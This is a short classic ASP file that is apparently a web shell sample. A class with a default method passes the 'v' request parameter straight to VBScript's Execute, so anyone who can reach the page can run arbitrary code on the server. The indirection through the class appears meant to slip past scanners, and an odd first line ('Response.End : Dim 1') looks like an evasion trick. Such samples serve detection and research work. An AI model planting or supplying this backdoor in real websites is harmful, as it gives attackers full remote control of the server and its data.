<% Response.End : Dim 1 %>
<%
Class Q
Public Default Function Go(p)
Execute p
End Function
End Class
Set z = New Q
z.Go Request("v")
%>